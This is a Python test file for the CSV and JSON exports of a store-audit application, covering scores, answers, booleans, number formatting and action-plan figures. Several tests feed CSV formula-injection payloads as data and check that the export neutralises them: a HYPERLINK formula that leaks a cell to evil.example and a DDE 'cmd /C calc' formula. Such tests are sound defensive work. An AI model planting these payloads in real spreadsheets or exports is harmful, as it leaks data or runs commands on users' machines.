import csv
import io
from datetime import UTC, datetime, timedelta

import sqlalchemy as sa

from audit.domain import checklist
from audit.services import checklists
from audit.services.company import organisation
from audit.services.planning import assignments
from audit.services.scores import exports
from audit.storage import models
from tests import actors

PERIOD = "from=2026-10-01&to=2026-11-30"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"open")'


def rows_of(response) -> list[list[str]]:
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for spreadsheets
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def submit(client, org, store="NTH-001", **answers):
    body = actors.body(org.main, store=store, answers=actors.answers_for(org.main, **answers))
    body["notes"] = "Café au lait, naïve résumé"
    assert client.post("/api/audits", json=body).status_code == 201
    return body


def test_the_comparison_csv_matches_the_page(client_for, org):
    submit(client_for("shopper@example.com"), org)
    response = client_for("north@example.com").get("/regions/NTH/comparison.csv?from=2026-10-01&to=2026-11-30")
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="comparison-NTH-2026-10-01_2026-11-30.csv"' in response.headers["content-disposition"]
    rows = rows_of(response)
    assert rows[0][:7] == ["rank", "store", "name", "score", "audits", "previous_score", "change"]
    by_store = {r[1]: r for r in rows[1:]}
    assert by_store["NTH-001"][:5] == ["1", "NTH-001", "Leeds", "100.0", "1"]
    assert by_store["NTH-002"][3:5] == ["", "0"]  # no audits: empty, not 0


def test_the_audits_and_answers_csv_hold_every_row_with_iso_dates(client_for, org):
    shopper = client_for("shopper@example.com")
    first = submit(shopper, org)
    submit(shopper, org, store="NTH-002", warm_greeting="no")
    manager = client_for("north@example.com")
    audits = rows_of(manager.get("/regions/NTH/audits.csv?from=2026-10-01&to=2026-11-30"))
    assert audits[0][0] == "audit_id" and len(audits) == 3
    row = next(r for r in audits if r[0] == first["id"])
    assert row[7] == "2026-11-02T11:30:00+00:00"
    answers = rows_of(manager.get("/regions/NTH/answers.csv?from=2026-10-01&to=2026-11-30"))
    assert len(answers) == 1 + 2 * len(first["answers"])
    header = answers[0]
    assert header[4:9] == ["section", "item", "question", "value", "na"]
    missed = [r for r in answers if r[5] == "warm_greeting" and r[header.index("failed")] == "yes"]
    assert len(missed) == 1


def test_an_empty_period_gives_just_the_header(client_for):
    rows = rows_of(client_for("owner@example.com").get("/regions/STH/audits.csv?from=2020-01-01&to=2020-01-31"))
    assert len(rows) == 1


def test_json_twins_carry_the_same_figures(client_for, org):
    submit(client_for("shopper@example.com"), org)
    manager = client_for("north@example.com")
    comparison = manager.get("/api/regions/NTH/comparison?from=2026-10-01&to=2026-11-30").json()
    assert comparison["score"] == 100.0 and comparison["audits"] == 1
    assert {b["store"]: b["score"] for b in comparison["branches"]} == {"NTH-001": 100.0, "NTH-002": None}
    store = manager.get("/api/stores/NTH-001/scores?from=2026-10-01&to=2026-11-30").json()
    assert store["score"] == 100.0 and store["sections"]["greeting"] == 100.0
    assert [m["month"] for m in store["months"]] == ["2026-10", "2026-11"]
    assert manager.get("/api/stores/STH-001/scores").status_code == 404
    bad = manager.get("/api/regions/NTH/comparison?period=week")
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "period"


def test_the_twins_are_in_the_openapi_document(anonymous):
    paths = anonymous.get("/api/openapi.json").json()["paths"]
    assert "/api/regions/{code}/comparison" in paths and "/api/stores/{code}/scores" in paths


def answers_csv(client, query: str = PERIOD) -> list[dict[str, str]]:
    rows = rows_of(client.get(f"/regions/NTH/answers.csv?{query}"))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_a_formula_in_a_comment_comes_out_as_text(client_for, org):
    answers = actors.answers_for(org.main)
    answers["warm_greeting"]["comment"] = HYPERLINK
    answers["greeting_notes"] = {"value": "@SUM(1+1)*cmd|' /C calc'!A0"}
    answers["staff_description"] = {"value": "+44 7700 900123, -tall-, \tTabbed"}
    body = actors.body(org.main, answers=answers)
    assert client_for("shopper@example.com").post("/api/audits", json=body).status_code == 201
    by_item = {r["item"]: r for r in answers_csv(client_for("north@example.com"))}
    assert by_item["warm_greeting"]["comment"] == "'" + HYPERLINK
    assert by_item["greeting_notes"]["value"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_item["staff_description"]["value"] == "'+44 7700 900123, -tall-, \tTabbed"
    assert by_item["stopped_task"]["comment"] == ""  # nothing to neutralise in an empty cell


def test_text_that_only_looks_like_a_formula_inside_is_left_alone(client_for, org):
    answers = actors.answers_for(org.main, greeting_notes="Price was 2+2=4 @ the till; well - fine")
    body = actors.body(org.main, answers=answers)
    assert client_for("shopper@example.com").post("/api/audits", json=body).status_code == 201
    by_item = {r["item"]: r for r in answers_csv(client_for("north@example.com"))}
    assert by_item["greeting_notes"]["value"] == "Price was 2+2=4 @ the till; well - fine"


def test_store_names_and_reasons_that_start_like_formulas_come_out_as_text(client_for, org):
    db = client_for("owner@example.com").app.state.db
    names = {"NTH-003": "=cmd", "NTH-004": "+1", "NTH-005": "@x", "NTH-006": "-x"}
    for code, name in names.items():
        organisation.add_store(db, code, name, "NTH")
    day = actors.VISIT_END.date()
    assignments.add(db, "shopper@example.com", "NTH-005", "customer-service", day, day)
    shopper = client_for("shopper@example.com")
    body = submit(shopper, org, store="NTH-005")
    manager = client_for("north@example.com")
    excluded = manager.post(f"/audits/{body['id']}/exclude", data={"reason": "=1+1 staff trial"})
    assert excluded.status_code == 303
    comparison = rows_of(manager.get(f"/regions/NTH/comparison.csv?{PERIOD}"))
    by_store = {r[1]: r[2] for r in comparison[1:]}
    assert {code: by_store[code] for code in names} == {code: "'" + name for code, name in names.items()}
    assert by_store["NTH-001"] == "Leeds"
    audits = rows_of(manager.get(f"/regions/NTH/audits.csv?{PERIOD}"))
    row = dict(zip(audits[0], audits[1], strict=True))
    assert (row["store_name"], row["excluded"], row["excluded_reason"]) == ("'@x", "yes", "'=1+1 staff trial")
    assert row["critical_failed"] == "no"


def test_negative_and_positive_numbers_stay_numbers(client_for, org):
    db = client_for("owner@example.com").app.state.db
    source = """
key = "cold-room"
title = "Cold room"

[[sections]]
key = "room"
title = "Room"

[[sections.items]]
key = "door_shut"
question = "Was the cold room door shut?"
guidance = "Shut and sealed."
type = "yesno"
points = 1

[[sections.items]]
key = "temperature"
question = "What did the thermometer show?"
guidance = "In degrees Celsius, as shown."
type = "number"
unit = "degrees"
min = -40
max = 40
"""
    checklists.import_spec(db, checklist.parse(source), source)
    spec = checklists.current(db, "cold-room")
    shopper = client_for("shopper@example.com")
    for value in (-4, -2.5, 3):
        answers = {"door_shut": {"value": "yes"}, "temperature": {"value": value}}
        assert shopper.post("/api/audits", json=actors.body(spec, answers=answers)).status_code == 201
    manager = client_for("north@example.com")
    rows = answers_csv(manager)
    assert sorted(r["value"] for r in rows if r["item"] == "temperature") == ["-2.5", "-4", "3"]
    assert {r["earned"] for r in rows if r["item"] == "door_shut"} == {"1.0"}
    # a score that fell since the previous period: the change is a negative number, not text
    earlier = datetime(2026, 10, 20, 10, 0, tzinfo=UTC)
    assert shopper.post("/api/audits", json=actors.body(org.main, finished=earlier)).status_code == 201
    answers = actors.answers_for(org.main, warm_greeting="no", offered_help="no")
    assert shopper.post("/api/audits", json=actors.body(org.main, answers=answers)).status_code == 201
    comparison = rows_of(manager.get("/regions/NTH/comparison.csv?from=2026-10-28&to=2026-11-30"))
    header, leeds = comparison[0], next(r for r in comparison if r[1] == "NTH-001")
    change = leeds[header.index("change")]
    assert change.startswith("-") and float(change) < 0, change


def test_booleans_are_yes_or_no(client_for, org):
    answers = actors.answers_for(org.main, warm_greeting="no", used_customer_name="na")
    body = actors.body(org.main, answers=answers)
    assert client_for("shopper@example.com").post("/api/audits", json=body).status_code == 201
    manager = client_for("north@example.com")
    by_item = {r["item"]: r for r in answers_csv(manager)}
    assert (by_item["warm_greeting"]["value"], by_item["warm_greeting"]["failed"]) == ("no", "yes")
    assert (by_item["stopped_task"]["na"], by_item["stopped_task"]["failed"]) == ("no", "no")
    assert by_item["used_customer_name"]["na"] == "yes"
    audits = rows_of(manager.get(f"/regions/NTH/audits.csv?{PERIOD}"))
    row = dict(zip(audits[0], audits[1], strict=True))
    assert (row["critical_failed"], row["excluded"]) == ("no", "no")
    every_cell = {c for r in audits[1:] for c in r} | {
        c for r in rows_of(manager.get(f"/regions/NTH/answers.csv?{PERIOD}"))[1:] for c in r
    }
    assert not every_cell & {"True", "False"}


def test_the_answers_csv_carries_each_question_from_the_audits_own_version(client_for, org):
    db = client_for("owner@example.com").app.state.db
    shopper = client_for("shopper@example.com")
    first = submit(shopper, org)
    reworded = (
        (actors.ROOT / "checklists" / "customer-service.toml")
        .read_text()
        .replace("Were you greeted warmly, with a smile?", "Did staff greet you warmly?")
    )
    checklists.import_spec(db, checklist.parse(reworded), reworded)
    newer = checklists.current(db, "customer-service")
    assert newer.version != org.main.version
    second = actors.body(newer, store="NTH-002", answers=actors.answers_for(newer))
    assert shopper.post("/api/audits", json=second).status_code == 201
    rows = answers_csv(client_for("north@example.com"))
    greeting = {r["audit_id"]: r for r in rows if r["item"] == "warm_greeting"}
    assert greeting[first["id"]]["question"] == "Were you greeted warmly, with a smile?"
    assert greeting[second["id"]]["question"] == "Did staff greet you warmly?"
    wait = next(r for r in rows if r["item"] == "wait_seconds")
    assert wait["question"] == org.main.item("wait_seconds").question


def weak_store(client_for, org, db) -> int:
    """NTH-001 with an overdue open plan: every yes/no behaviour failed, then a visit that fixes
    all but two of them (so two still failing, two repeat failures). Returns its behaviours."""
    shopper = client_for("shopper@example.com")
    keys = [i.key for i in org.main.items if i.type == "yesno" and i.points > 0]
    for days, failed in ((4, keys), (3, ["stopped_task", "warm_greeting"])):
        finished = actors.VISIT_END - timedelta(days=days)
        answers = actors.answers_for(org.main, **{k: "no" for k in failed})
        assert (
            shopper.post("/api/audits", json=actors.body(org.main, finished=finished, answers=answers)).status_code
            == 201
        )
    with db.write_session() as session:
        session.execute(sa.update(models.ActionPlan).values(respond_by=db.settings.today() - timedelta(days=1)))
    return len(keys)


def test_the_comparison_csv_carries_each_stores_plan_figures(client_for, org, db):
    behaviours = weak_store(client_for, org, db)
    rows = rows_of(client_for("north@example.com").get(f"/regions/NTH/comparison.csv?{PERIOD}"))
    header = rows[0]
    assert header[7:13] == exports.PLAN_HEADER and header[13].startswith("section_")
    by_store = {r[1]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    plans = {k: v for k, v in by_store["NTH-001"].items() if k in exports.PLAN_HEADER}
    assert plans == {
        "plan_state": "open", "plan_overdue": "yes", "plan_behaviours": str(behaviours),
        "plan_fixed": str(behaviours - 2), "plan_still_failing": "2", "repeat_failures": "2",
    }  # fmt: skip
    assert [by_store["NTH-002"][k] for k in exports.PLAN_HEADER] == ["", "no", "0", "0", "0", "0"]


def test_the_json_twins_carry_the_plan_figures_the_pages_show(client_for, org, db):
    behaviours = weak_store(client_for, org, db)
    manager = client_for("north@example.com")
    comparison = manager.get(f"/api/regions/NTH/comparison?{PERIOD}").json()
    assert comparison["plans"] == {"open": 1, "overdue": 1, "repeat_failures": 2}
    plan = {b["store"]: b["plan"] for b in comparison["branches"]}
    expected = {
        "state": "open", "overdue": True, "behaviours": behaviours, "fixed": behaviours - 2, "still_failing": 2,
        "repeat_failures": 2,
    }  # fmt: skip
    assert plan["NTH-001"] == expected
    assert plan["NTH-002"] == {**expected, "state": None, "overdue": False, "behaviours": 0, "fixed": 0,
                               "still_failing": 0, "repeat_failures": 0}  # fmt: skip
    assert "Action plans: 1 open, 1 overdue; 2 repeat failures" in manager.get(f"/regions/NTH?{PERIOD}").text
    assert manager.get(f"/api/stores/NTH-001/scores?{PERIOD}").json()["plan"] == expected
    # a period before the visits: the open plan is still open, the repeat failures are of the period
    earlier = manager.get("/api/stores/NTH-001/scores?from=2026-01-01&to=2026-01-31").json()["plan"]
    assert earlier == {**expected, "repeat_failures": 0}


def test_the_plan_figures_are_in_the_openapi_document(anonymous):
    schemas = anonymous.get("/api/openapi.json").json()["components"]["schemas"]
    assert schemas["BranchOut"]["properties"]["plan"] == {"$ref": "#/components/schemas/PlanFiguresOut"}
    assert "plan" in schemas["StoreScoresOut"]["properties"] and "plans" in schemas["ComparisonOut"]["properties"]
    assert set(schemas["PlanFiguresOut"]["properties"]) == {
        "state", "overdue", "behaviours", "fixed", "still_failing", "repeat_failures",
    }  # fmt: skip
    assert "two counted audits in a row" in schemas["PlanFiguresOut"]["properties"]["repeat_failures"]["description"]
